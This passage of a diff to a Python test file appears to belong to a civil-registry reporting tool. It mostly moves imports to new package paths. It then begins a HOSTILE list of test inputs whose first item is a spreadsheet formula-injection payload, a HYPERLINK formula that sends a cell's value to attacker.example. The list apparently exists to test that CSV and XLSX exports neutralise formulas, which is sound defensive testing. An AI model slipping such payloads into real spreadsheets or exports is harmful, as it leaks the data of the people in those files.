@@ -23,11 +23,13 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 from openpyxl import load_workbook
 
-from baocao import demo, pipeline, warehouse
 from baocao.cli import main
-from baocao.config import load_config
-from simulators.files import commune_csv, commune_dossiers
-from transforms.export import FORMULA_STARTS, Table, csv_text, write_csv, write_xlsx
+from baocao.run import pipeline
+from baocao.run.config import load_config
+from baocao.simulators import demo
+from baocao.simulators.files import commune_csv, commune_dossiers
+from baocao.storage import warehouse
+from baocao.transforms.export import FORMULA_STARTS, Table, csv_text, write_csv, write_xlsx
 
 HOSTILE = (
     '=HYPERLINK("http://attacker.example/?leak="&A1,"Hộ tịch")',
